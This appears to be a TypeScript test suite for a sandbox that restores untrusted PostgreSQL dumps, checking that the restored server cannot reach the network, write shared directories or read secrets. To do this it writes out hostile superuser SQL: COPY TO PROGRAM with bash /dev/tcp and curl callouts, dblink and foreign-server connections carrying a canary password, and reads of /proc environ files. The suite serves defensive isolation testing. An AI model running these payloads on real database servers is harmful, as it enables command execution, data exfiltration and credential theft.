import { createSocket, type Socket } from 'node:dgram'
import { existsSync } from 'node:fs'
import { mkdtemp, readdir, readFile, readlink, rm, writeFile } from 'node:fs/promises'
import { createServer, type AddressInfo, type Server } from 'node:net'
import { networkInterfaces, tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { isShutIn } from '../engine/embedded/testing/shut-in.ts'
import { embeddedEngine } from '../engine/index.ts'
import { silentProgress } from '../core/index.ts'
import { dumpWith, rehearseDump } from './testing/rehearse-dump.ts'

/** How many hostile dumps are restored; 100 in a long run. */
const runs = Number(process.env['REHEARSAL_HOSTILE_RUNS'] ?? 6)
const canary = 'c4nary-hunter2'

let folder = ''
let listener: Server
let deaf: Socket
let heard = 0
let port = 0
let udpPort = 0
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'hostile-egress-'))
  listener = createServer((socket) => {
    heard += 1
    socket.destroy()
  })
  await new Promise<void>((resolve) => listener.listen(0, '0.0.0.0', resolve))
  port = (listener.address() as AddressInfo).port
  deaf = createSocket('udp4', () => {
    heard += 1
  })
  await new Promise<void>((resolve) => deaf.bind(0, '0.0.0.0', () => resolve()))
  udpPort = deaf.address().port
})
afterAll(async () => {
  listener.close()
  deaf.close()
  await rm(folder, { recursive: true, force: true })
})

/** This machine as it calls itself, and as others call it. */
const hosts = [
  '127.0.0.1',
  ...Object.values(networkInterfaces()).flatMap((list) =>
    (list ?? []).flatMap(({ family, internal, address }) => (family === 'IPv4' && !internal ? [address] : [])),
  ),
]

/** All ways out of a database that a superuser has, each on its own so that one's refusal stops no other. */
function waysOut(host: string): string {
  const connection = `host=${host} port=${port} dbname=x user=x password=${canary} connect_timeout=1`
  const tried = (statement: string): string => `DO $way$ BEGIN ${statement} EXCEPTION WHEN OTHERS THEN NULL; END $way$;`
  const program = (command: string): string => tried(`EXECUTE $x$ COPY (SELECT 1) TO PROGRAM '${command}' $x$;`)
  return [
    program(`exec 3<>/dev/tcp/${host}/${port}`),
    program(`bash -c "echo x >/dev/tcp/${host}/${port}"`),
    program(`bash -c "echo x >/dev/udp/${host}/${udpPort}"`),
    program(`curl -s http://${host}:${port}/`),
    tried(`CREATE EXTENSION IF NOT EXISTS dblink WITH SCHEMA public; PERFORM public.dblink_connect('${connection}');`),
    tried(`PERFORM public.dblink_connect('host=${canary}.example.org port=${port} dbname=x connect_timeout=1');`),
    tried(`CREATE EXTENSION IF NOT EXISTS postgres_fdw WITH SCHEMA public;
      CREATE SERVER IF NOT EXISTS far FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '${host}', port '${port}', connect_timeout '1');
      CREATE USER MAPPING IF NOT EXISTS FOR PUBLIC SERVER far OPTIONS (user 'x', password 'x');
      CREATE FOREIGN TABLE IF NOT EXISTS public.far (x text) SERVER far; PERFORM * FROM public.far;`),
    `CREATE SUBSCRIPTION ours CONNECTION '${connection}' PUBLICATION p WITH (connect = false, slot_name = 'ours');`,
    'ALTER SUBSCRIPTION ours ENABLE;',
  ].join('\n')
}

/** Where every user of the machine may write. */
const open = ['/tmp', '/var/tmp', '/dev/shm', tmpdir()]

function waysToWrite(name: string): string {
  return open
    .flatMap((place) => [
      `EXECUTE $x$ COPY (SELECT 1) TO '${place}/${name}' $x$;`,
      `EXECUTE $x$ COPY (SELECT 1) TO PROGRAM 'touch ${place}/${name}' $x$;`,
      `PERFORM lo_export(lo_from_bytea(0, 'x'), '${place}/${name}');`,
    ])
    .map((way) => `DO $way$ BEGIN ${way} EXCEPTION WHEN OTHERS THEN NULL; END $way$;`)
    .join('\n')
}

/** Words and environments of everything that descends from us, while it runs. */
class Watch implements AsyncDisposable {
  readonly hits: string[] = []
  seen = 0
  #over = false
  readonly #watching: Promise<void>

  constructor() {
    this.#watching = this.#watch()
  }

  async #watch(): Promise<void> {
    while (!this.#over) {
      for (const pid of await descendants()) {
        for (const file of ['cmdline', 'environ']) {
          const text = await readFile(`/proc/${pid}/${file}`, 'latin1').catch(() => '')
          if (text !== '') this.seen += 1
          if (text.includes(canary)) this.hits.push(`${file} of ${text.slice(0, 40)}`)
        }
      }
      await sleep(20)
    }
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#over = true
    await this.#watching
  }
}

async function descendants(): Promise<readonly string[]> {
  const pids = (await readdir('/proc')).filter((name) => /^\d+$/.test(name))
  const parents = new Map<string, string>()
  for (const pid of pids) {
    const stat = await readFile(`/proc/${pid}/stat`, 'latin1').catch(() => '')
    const parent = stat.slice(stat.lastIndexOf(')')).split(' ')[2]
    if (parent !== undefined) parents.set(pid, parent)
  }
  const ours = new Set([String(process.pid)])
  for (let before = 0; before !== ours.size;) {
    before = ours.size
    for (const [pid, parent] of parents) if (ours.has(parent)) ours.add(pid)
  }
  ours.delete(String(process.pid))
  return [...ours]
}

/** What of a server's is mounted where we are: its mounts are to be its own. */
async function mountsOfServers(): Promise<readonly string[]> {
  const mounts = await readFile('/proc/self/mountinfo', 'utf8')
  return mounts.split('\n').filter((mount) => /\/rehearsal-[0-9a-f]{10}\//.test(mount))
}

describe.runIf(isShutIn)(`${runs} hostile dumps (only where a server can be shut in)`, () => {
  it(
    'send nothing, write nowhere, see no secret, and leave nothing behind',
    async () => {
      process.env['REHEARSAL_CANARY_URL'] = `postgresql://x:${canary}@production/x`
      const path = join(folder, 'dump.sql')
      let restored = 0
      try {
        await using watch = new Watch()
        for (let run = 0; run < runs; run += 1) {
          const name = `${basename(folder)}-${run}`
          const host = hosts[run % hosts.length] ?? '127.0.0.1'
          const look = `CREATE TABLE public.seen AS SELECT name, pg_catalog.encode(pg_catalog.pg_read_binary_file('/proc/' || name || '/environ', 0, 100000, true), 'escape') AS words
            FROM pg_catalog.pg_ls_dir('/proc') AS name WHERE name ~ '^([0-9]+|self)$';`
          const definitions = `${waysOut(host)}\n${waysToWrite(name)}\n${look}`
          // Connects as it is made, and ends the restore when it can't: every third dump ends with it.
          const end =
            run % 3 === 2 ? `CREATE SUBSCRIPTION now CONNECTION 'host=${host} port=${port}' PUBLICATION p;` : ''
          const text = dumpWith({ definitions, end })
          await writeFile(path, run % 2 === 0 ? text : text.replaceAll('17.10', '15.18'))
          const { record, facts } = await rehearseDump(path)
          restored += record.restore?.statements ?? 0
          expect(record.engine?.isolation).toMatchObject({ network: 'none', files: 'own root' })
          // The words of a subscription's connection are the dump's own; that of ours is nobody's.
          expect(JSON.stringify(facts)).not.toContain('REHEARSAL_CANARY')
          expect(open.map((place) => join(place, name)).filter(existsSync)).toEqual([])
        }
        expect(watch.hits).toEqual([])
        expect(watch.seen).toBeGreaterThan(runs)
      } finally {
        delete process.env['REHEARSAL_CANARY_URL']
      }
      expect(restored).toBeGreaterThan(runs * 6)
      expect(heard).toBe(0)
      expect(await mountsOfServers()).toEqual([])
      const left = await Promise.all((await descendants()).map((pid) => readlink(`/proc/${pid}/exe`).catch(() => '')))
      expect(left.filter((program) => /postgres|unshare|setpriv/.test(program))).toEqual([])
    },
    runs * 20_000,
  )

  it('would be heard and seen where a superuser runs the same on a server that is not shut in', async () => {
    const need = { major: 17, extensions: [], plainBytes: 1e6, superuser: 'postgres' }
    const options = { signal: new AbortController().signal, progress: silentProgress }
    await using server = await embeddedEngine({ strongestConfinement: 'death signal' }).start(need, options)
    if (!server.limits?.connectAdmin) throw new Error('it was shut in after all')
    await using session = await server.limits.connectAdmin('postgres')
    const name = `${basename(folder)}-twin`
    const written = open.map((place) => join(place, name))
    try {
      for (const host of hosts) {
        const before = heard
        // Names are asked of nobody here.
        const ways = waysOut(host)
          .split('\nDO ')
          .filter((way) => !way.includes('example.org'))
        await session.execute(ways.join('\nDO '))
        await expect.poll(() => heard - before).toBeGreaterThan(2)
      }
      await session.execute(waysToWrite(name))
      expect(written.filter((path) => !existsSync(path))).toEqual([])
    } finally {
      for (const path of written) await rm(path, { force: true })
      heard = 0
    }
  })
})
